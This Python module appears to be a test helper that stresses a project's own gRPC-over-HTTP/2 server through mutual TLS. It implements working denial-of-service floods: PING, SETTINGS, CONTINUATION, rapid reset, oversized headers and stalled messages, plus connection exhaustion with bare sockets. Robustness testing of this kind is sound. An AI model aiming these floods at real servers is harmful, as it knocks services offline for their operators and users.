"""HTTP/2 frames by hand over mutual TLS, for clients that no library would be: they flood, hang and lie.

Every function of ``FLOODS`` sends until the server hangs up or its time is over.
"""

from __future__ import annotations

import contextlib
import itertools
import socket
import ssl
import struct
import time
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path
from typing import Self

from peer.site.identity.certificates import CA_FILE, CERTIFICATE_FILE, KEY_FILE

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
FRAME_BYTES_MAX = 16384
EXCHANGE = "/mhfl.v1.Exchange"
CONNECT_S = 10.0
SEND_S = 0.2  # a connection that the server does not read must not stop the flood on the others


def frame(kind: int, payload: bytes = b"", *, flags: int = 0, stream: int = 0) -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(text: bytes) -> bytes:
    """A string of HPACK without Huffman's code."""
    if len(text) < 127:
        return bytes([len(text)]) + text
    length, rest = b"\x7f", len(text) - 127
    while rest >= 128:
        length, rest = length + bytes([rest % 128 + 128]), rest // 128
    return length + bytes([rest]) + text


def header(name: str, value: str | bytes) -> bytes:
    """A header that no table remembers."""
    content = value.encode() if isinstance(value, str) else value
    return b"\x00" + literal(name.encode()) + literal(content)


def request_headers(path: str, **more: str) -> bytes:
    fields = {":method": "POST", ":scheme": "https", ":path": path, ":authority": "peer", "te": "trailers"}
    fields |= {"content-type": "application/grpc", **more}
    return b"".join(header(name, value) for name, value in fields.items())


def message(content: bytes) -> bytes:
    """A message of gRPC, not compressed."""
    return b"\x00" + struct.pack(">I", len(content)) + content


def call(stream: int, path: str, content: bytes) -> bytes:
    """The frames of a unary call."""
    opening = frame(HEADERS, request_headers(path), flags=END_HEADERS, stream=stream)
    return opening + frame(DATA, message(content), flags=END_STREAM, stream=stream)


def member_context(pki: Path) -> ssl.SSLContext:
    """The TLS of a member with the files in its ``pki`` folder; any name of the server will do."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.load_verify_locations(pki / CA_FILE)
    context.load_cert_chain(pki / CERTIFICATE_FILE, pki / KEY_FILE)
    context.set_alpn_protocols(["h2"])
    return context


class Connection:
    """A connection on which the greeting of HTTP/2 was sent; what comes back can be read or left."""

    def __init__(self, address: str, context: ssl.SSLContext) -> None:
        host, _, port = address.rpartition(":")
        plain = socket.create_connection((host.strip("[]"), int(port)), CONNECT_S)
        try:
            self._socket = context.wrap_socket(plain, server_hostname="peer")
            self._socket.sendall(PREFACE + frame(SETTINGS))
        except OSError:
            plain.close()
            raise

    def send(self, frames: bytes, limit_s: float = CONNECT_S) -> None:
        """Send frames; ``TimeoutError`` when the server does not read, after which they may be torn."""
        self._socket.settimeout(limit_s)
        self._socket.sendall(frames)

    def take(self) -> bytes:
        """What the server has sent so far, without a wait; ``ConnectionError`` when it hung up."""
        self._socket.setblocking(False)
        taken = b""
        try:
            while content := self._socket.recv(65536):
                taken += content
            raise ConnectionError("the server hung up")
        except ssl.SSLWantReadError:
            return taken
        finally:
            self._socket.setblocking(True)

    def wait_for_end(self, limit_s: float) -> bytes:
        """Everything that the server sends until it hangs up; ``TimeoutError`` when it does not."""
        self._socket.settimeout(limit_s)
        taken = b""
        with contextlib.suppress(ConnectionError, ssl.SSLError):
            while content := self._socket.recv(65536):
                taken += content
        return taken

    def close(self) -> None:
        self._socket.close()

    def __enter__(self) -> Self:
        return self

    def __exit__(self, *_: object) -> None:
        self.close()


def pings(_: Connection) -> Iterator[bytes]:
    return itertools.repeat(frame(PING, b"12345678") * 500)


def settings(_: Connection) -> Iterator[bytes]:
    return itertools.repeat(frame(SETTINGS, struct.pack(">HI", 4, 65535)) * 500)


def continuations(_: Connection) -> Iterator[bytes]:
    """One call whose headers never end."""
    yield frame(HEADERS, request_headers(f"{EXCHANGE}/Beat"), stream=1)
    for number in itertools.count():
        fields = b"".join(header(f"x-{number}-{index}", "v" * 100) for index in range(100))
        yield frame(CONTINUATION, fields, stream=1)


def empty_continuations(_: Connection) -> Iterator[bytes]:
    yield frame(HEADERS, request_headers(f"{EXCHANGE}/Beat"), stream=1)
    yield from itertools.repeat(frame(CONTINUATION, stream=1) * 500)


def large_headers(_: Connection) -> Iterator[bytes]:
    """Calls whose metadata are four times as long as the server takes."""
    for stream in itertools.count(1, 2):
        fields = request_headers(f"{EXCHANGE}/Beat") + header("x", "v" * 16000)
        more = header("x", "v" * 16000)
        yield (
            frame(HEADERS, fields[:FRAME_BYTES_MAX], flags=END_STREAM, stream=stream)
            + frame(CONTINUATION, fields[FRAME_BYTES_MAX:], stream=stream)
            + frame(CONTINUATION, more, stream=stream) * 2
            + frame(CONTINUATION, more, flags=END_HEADERS, stream=stream)
        )


def resets(_: Connection) -> Iterator[bytes]:
    """Calls that are cancelled at once."""
    opening = request_headers(f"{EXCHANGE}/Beat")
    for first in itertools.count(1, 200):
        yield b"".join(
            frame(HEADERS, opening, flags=END_HEADERS, stream=stream)
            + frame(RST_STREAM, struct.pack(">I", 8), stream=stream)
            for stream in range(first, first + 200, 2)
        )


def garbage(_: Connection) -> Iterator[bytes]:
    """Messages that nobody can parse, in well-formed calls."""
    for first in itertools.count(1, 40):
        yield b"".join(call(stream, f"{EXCHANGE}/Beat", b"\xff" * 3) for stream in range(first, first + 40, 2))


def unknown_methods(_: Connection) -> Iterator[bytes]:
    for first in itertools.count(1, 40):
        yield b"".join(call(stream, "/no.such/Method", b"") for stream in range(first, first + 40, 2))


def unfinished_messages(_: Connection) -> Iterator[bytes]:
    """Calls that announce a message of a mebibyte, send most of it, and wait."""
    for stream in itertools.count(1, 2):
        yield frame(HEADERS, request_headers(f"{EXCHANGE}/Beat"), flags=END_HEADERS, stream=stream)
        yield frame(DATA, b"\x00" + struct.pack(">I", 1 << 20) + b"\xff" * 16000, stream=stream)
        yield frame(DATA, b"\xff" * 16000, stream=stream) * 3


FLOODS: Mapping[str, Callable[[Connection], Iterator[bytes]]] = {
    "PING": pings,
    "SETTINGS": settings,
    "CONTINUATION": continuations,
    "empty CONTINUATION": empty_continuations,
    "large headers": large_headers,
    "rapid reset": resets,
    "garbage": garbage,
    "unknown methods": unknown_methods,
    "unfinished messages": unfinished_messages,
}


def flood(
    address: str, context: ssl.SSLContext, kind: str, *, connections: int, seconds: float, reads: bool = True
) -> int:
    """Flood over several connections at once, and dial again whenever the server hangs up; returns how often it did."""
    end_s, hung_up = time.monotonic() + seconds, 0
    opened: list[tuple[Connection, Iterator[bytes]]] = []
    with contextlib.ExitStack() as stack:
        while time.monotonic() < end_s:
            while len(opened) < connections:
                try:
                    connection = stack.enter_context(Connection(address, context))
                except OSError:
                    hung_up += 1
                    break
                opened.append((connection, FLOODS[kind](connection)))
            for connection, frames in list(opened):
                try:
                    if reads:
                        connection.take()
                    connection.send(next(frames), SEND_S)
                except TimeoutError:
                    continue
                except OSError:
                    hung_up += 1
                    connection.close()
                    opened.remove((connection, frames))
    return hung_up


def open_strangers(address: str, count: int) -> list[socket.socket]:
    """Connections without a TLS byte, as many of ``count`` as the system and the server's queue take."""
    host, _, port = address.rpartition(":")
    strangers: list[socket.socket] = []
    with contextlib.suppress(OSError):
        for _ in range(count):
            strangers.append(socket.create_connection((host, int(port)), CONNECT_S))
    return strangers
